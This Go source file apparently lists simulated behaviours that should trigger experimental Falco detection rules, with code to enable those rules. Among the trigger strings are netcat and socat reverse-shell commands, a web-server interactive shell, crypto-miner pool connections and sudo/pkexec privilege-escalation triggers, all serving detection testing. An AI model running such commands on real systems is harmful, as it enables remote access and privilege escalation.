package rules

import (
	"os"
	"path/filepath"
)

// experimentalFile holds rules that Falco does not install by default; its deeds
// are played when the folder has it.
const experimentalFile = "falco-sandbox_rules.yaml"

// experimentalDeeds has every rule of that file.
var experimentalDeeds = []deed{
	{"Unexpected inbound connection source", anywhere, "serve 192.0.2.1:8090"},
	{"Read Shell Configuration File", anywhere, "append /root/.bashrc | read /root/.bashrc"},
	{"Update Package Repository", anywhere, "create /etc/apt/sources.list.d/$NAME.list"},
	{"Update Package Repository", anywhere, "create /etc/yum.repos.d/.x | rename /etc/yum.repos.d/.x /etc/yum.repos.d/$NAME"},
	{"Write below binary dir", anywhere, "create /usr/bin/$NAME"},
	{"Write below monitored dir", anywhere, "create /usr/local/bin/$NAME"},
	{"Write below monitored dir", anywhere, "create /home/ada/.ssh/config"},
	{"Write below etc", anywhere, "create /etc/$NAME"},
	{"Write below root", anywhere, "create /root/$NAME"},
	{"Write below rpm database", anywhere, "create /var/lib/rpm/Packages"},
	{"Modify binary dirs", anywhere, "create /usr/bin/$NAME | rename /usr/bin/$NAME /usr/bin/$NAME.x"},
	{"Modify binary dirs", anywhere, "create /usr/sbin/$NAME | cd /usr/sbin | remove $NAME"},
	{"Mkdir binary dirs", anywhere, "mkdir /usr/bin/$NAME"},
	{"Launch Sensitive Mount Container", inPrivileged, ""},
	{"Launch Disallowed Container", inContainer, ""},
	{"Interpreted procs inbound network activity", anywhere, "as lua | serve 192.0.2.1:8091"},
	{"Interpreted procs outbound network activity", anywhere, "as lua | connect tcp 203.0.113.7:80"},
	{"Interpreted procs outbound network activity", anywhere, "as python3 | send 203.0.113.7:53"},
	{"Unexpected K8s NodePort Connection", inContainer, "connect tcp 192.0.2.9:30100"},
	{"Unexpected K8s NodePort Connection", inContainer, "serve 192.0.2.1:30101"},
	{"Create Hidden Files or Directories", anywhere, "create $HERE/.x"},
	{"Create Hidden Files or Directories", anywhere, "mkdir $HERE/.d"},
	{"Create Hidden Files or Directories", anywhere, "create $HERE/x | rename $HERE/x $HERE/.y"},
	{"Detect outbound connections to common miner pool ports", anywhere, "connect tcp " + minerPool + ":443"},
	{"Detect outbound connections to common miner pool ports", anywhere, "send " + minerPool + ":3333"},
	{"Detect crypto miners using the Stratum protocol", anywhere, "as kworker -o stratum+tcp://pool.example.org:3333"},
	{"Kubernetes Client Tool Launched in Container", inContainer, "as kubectl get pods"},
	{"Kubernetes Client Tool Launched in Container", inContainer, "script $HERE/kubectl | run $HERE/kubectl"},
	{"Container Drift Detected (chmod)", inContainer, "create $HERE/x | chmod 755 $HERE/x"},
	{"Container Drift Detected (chmod)", inContainer, "create $HERE/x | fchmod 711 $HERE/x"},
	{"Container Drift Detected (open+create)", inContainer, "copy /bin/busybox $HERE/x"},
	{"Container Run as Root User", inContainer, ""},
	{"Sudo Potential Privilege Escalation", outside, `login 1000 | uid 1000 | as sudoedit -s x\`},
	{"Sudo Potential Privilege Escalation", outside, `login 1000 | uid 1000 | as sudo --login 'x\ y'`},
	{"Unprivileged Delegation of Page Faults Handling to a Userspace Process", outside, "uid 65534 | userfaultfd"},
	{"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", outside, "login 1000 | uid 1000 | as pkexec"},
	{"Java Process Class File Download", anywhere, "as java | download tcp 192.0.2.1:8092 cafebabe00000034"},
	{"Java Process Class File Download", anywhere, "as java | download udp 127.0.0.1:8093 cafebabe"},
	{"Modify Container Entrypoint", inContainer, "create $HERE/x | rewrite $HERE/x"},
	{"Decoding Payload in Container", inContainer, "as base64 -d"},
	{"Basic Interactive Reconnaissance", anywhere, "tty | as whoami"},
	{"Netcat/Socat Remote Code Execution on Host", outside, "as nc -e /bin/sh 203.0.113.7 4444"},
	{"Netcat/Socat Remote Code Execution on Host", outside, "as socat TCP:203.0.113.7:4444 EXEC:sh"},
	{"Network Tool Executed During NPM Package Install", inContainer, "as npm | as sh | as node | as nc 203.0.113.7 80"},
	{"Known Cryptominer Process Executed", anywhere, "as xmrig"},
	{"Web Server Spawned Shell", anywhere, "as nginx | run sh -c true"},
	{"Web Server Spawned Suspicious Child Process", anywhere, "as httpd | as env | as whoami"},
	{"Reverse Shell from Web Server", anywhere, "as nginx | as bash -i"},
	{"Privileged Container Device Access", inPrivileged, "device 7 0 /dev/vdz | read /dev/vdz"},
	{"Container Access to Host Sensitive Paths", inContainer, "create /host/x | read /host/x"},
}

// minerPool is the address of one that the experimental rules know by its name.
const (
	minerPool      = "203.0.113.97"
	minerPoolNames = "pool.minexmr.com"
)

// experimentalSite switches on what the experimental rules leave to the site, and
// allows no container.
const experimentalSite = `
- macro: allowed_containers
  condition: (never_true)
  override: {condition: replace}
`

// experimentalRules are the path of the experimental rules of a folder, and what
// a site adds to them; neither when the folder has none.
func experimentalRules(dir string) (file, local string) {
	file = filepath.Join(dir, experimentalFile)
	if _, err := os.Stat(file); err != nil {
		return "", ""
	}
	local = experimentalSite
	enabled := map[string]bool{}
	for _, d := range experimentalDeeds {
		if !enabled[d.rule] {
			enabled[d.rule] = true
			local += "- rule: " + d.rule + "\n  enabled: true\n  override: {enabled: replace}\n"
		}
	}
	return file, local
}
